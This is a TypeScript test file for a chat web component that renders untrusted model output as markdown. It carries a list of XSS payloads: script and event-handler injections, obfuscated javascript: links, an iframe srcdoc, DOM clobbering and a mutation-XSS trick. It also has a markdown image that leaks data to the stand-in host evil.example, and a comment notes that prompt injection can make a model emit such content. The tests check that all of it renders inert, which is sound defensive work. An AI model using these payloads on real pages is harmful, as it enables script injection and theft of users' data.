import { expect, fixture, html } from '@open-wc/testing';
import type { RullamaChat } from '../../src/elements/chat/chat.js';
import { renderMarkdown, splitThinking } from '../../src/elements/chat/markdown.js';
import { defineElements } from '../../src/elements/define.js';

defineElements();

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

// Model output is untrusted: a prompt injection can make the model write any of these.
const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '[click me](javascript:window.__pwned=3)',
  '[shout](JAVASCRIPT:window.__pwned=4)',
  '[spaced](  javascript:window.__pwned=5)',
  '[tab](java\tscript:window.__pwned=6)',
  '[entity](&#106;avascript:window.__pwned=7)',
  '<a href="javascript:window.__pwned=8">raw link</a>',
  '<scr<script>ipt>window.__pwned=9</script>',
  '<svg onload="window.__pwned=10"><circle r="5"/></svg>',
  '<iframe srcdoc="<script>parent.__pwned=11</script>"></iframe>',
  '<details open ontoggle="window.__pwned=12">x</details>',
  '<style>* { display: none !important }</style>',
  '<form action="javascript:window.__pwned=13"><button>go</button></form>',
  '[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xNDwvc2NyaXB0Pg==)',
  '![tracker](https://evil.example/leak.png?q=secret "the conversation")',
  '<div id="input" name="input">clobber</div>',
  '<math><mi xlink:href="javascript:window.__pwned=15">m</mi></math>',
  '```html\n</code></pre><script>window.__pwned=16</script>\n```',
  '<<script>script>window.__pwned=17<</script>/script>',
  '<a href="https://ok.example" onclick="window.__pwned=18">fine link</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=19>">',
  '[ok](https://example.com/docs) and [mail](mailto:someone@example.com)',
].join('\n\n');

function checkSafe(root: ParentNode) {
  const forbidden = root.querySelectorAll('[part=content] :is(script, iframe, img, svg, math, style, form, object, embed, noscript, input, link, meta, button:not([part=copy-button]))');
  expect([...forbidden].map((e) => e.outerHTML)).to.deep.equal([]);
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name, el.outerHTML).not.to.match(/^on/i);
      expect(attr.name, el.outerHTML).not.to.equal('style');
      if (el.closest('.markdown')) expect(attr.name, el.outerHTML).not.to.be.oneOf(['id', 'name', 'srcdoc', 'src']);
    }
  }
  for (const a of root.querySelectorAll('.markdown a[href]')) {
    expect(a.getAttribute('href')).to.match(/^(https?:|mailto:)/);
    expect(a.getAttribute('rel')).to.equal('noopener noreferrer nofollow');
    expect(a.getAttribute('target')).to.equal('_blank');
  }
}

describe('<rullama-chat> markdown from untrusted model output', () => {
  afterEach(() => delete window.__pwned);

  it('renders hostile strings as inert text and safe links, in the element', async () => {
    const el = await fixture<RullamaChat>(html`<rullama-chat></rullama-chat>`);
    el.messages = [
      { role: 'user', content: HOSTILE },
      { role: 'assistant', content: HOSTILE },
    ];
    await el.updateComplete;
    await new Promise((r) => setTimeout(r, 50));
    const root = el.shadowRoot!;
    checkSafe(root);
    expect(window.__pwned).to.equal(undefined);
    const assistant = root.querySelector('[part~=message-assistant] [part=content]')!;
    // Raw HTML shows as text; links that are safe stay links.
    expect(assistant.textContent).to.contain('<script>window.__pwned = 1</script>');
    expect([...assistant.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://evil.example/leak.png?q=secret',
      'https://example.com/docs',
      'mailto:someone@example.com',
    ]);
    // The image became a link the user may choose to follow; nothing was fetched.
    expect(assistant.textContent).to.contain('tracker');
    expect(performance.getEntriesByType('resource').some((r) => r.name.includes('evil.example'))).to.equal(false);
    // The user's own text is never parsed at all.
    expect(root.querySelector('[part~=message-user] [part=content]')!.children).to.have.length(0);
    // The element's own nodes were not clobbered.
    expect(root.querySelector('#input')!.localName).to.equal('textarea');
  });

  it('renders hostile HTML directly through renderMarkdown too', () => {
    const out = renderMarkdown(HOSTILE, { copyLabel: 'Copy' });
    const host = document.createElement('div');
    host.setAttribute('part', 'content');
    host.append(out);
    document.body.append(host);
    try {
      checkSafe(host);
      expect(window.__pwned).to.equal(undefined);
    } finally {
      host.remove();
    }
  });

  it('renders markdown with copy buttons on code blocks, and passes axe', async () => {
    const el = await fixture<RullamaChat>(html`<rullama-chat></rullama-chat>`);
    el.messages = [
      { role: 'user', content: 'Show me code' },
      { role: 'assistant', content: '# Title\n\nSome *emphasis*, a list:\n\n- one\n- two\n\n```js\nconsole.log("hi <b>");\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |' },
    ];
    await el.updateComplete;
    const content = el.shadowRoot!.querySelector('[part~=message-assistant] [part=content]')!;
    expect(content.querySelector('h1')!.textContent).to.equal('Title');
    expect(content.querySelector('em')!.textContent).to.equal('emphasis');
    expect(content.querySelectorAll('li')).to.have.length(2);
    expect(content.querySelector('table td')!.textContent).to.equal('1');
    const block = content.querySelector('[part=code-block]')!;
    expect(block.querySelector('code')!.textContent).to.equal('console.log("hi <b>");\n');
    const copy = block.querySelector('[part=copy-button]')!;
    expect(copy.getAttribute('aria-label')).to.equal('Copy (js)');
    await expect(el).to.be.accessible();
  });

  it('splits the thought channel from the answer, also while it streams', () => {
    expect(splitThinking('<|channel>thought\nLet me see.<channel|>It is 4.')).to.deep.equal({ thinking: 'Let me see.', answer: 'It is 4.', thinkingOpen: false });
    expect(splitThinking('<|channel>thought\nStill thin')).to.deep.equal({ thinking: 'Still thin', answer: '', thinkingOpen: true });
    expect(splitThinking('Plain answer')).to.deep.equal({ thinking: '', answer: 'Plain answer', thinkingOpen: false });
  });
});
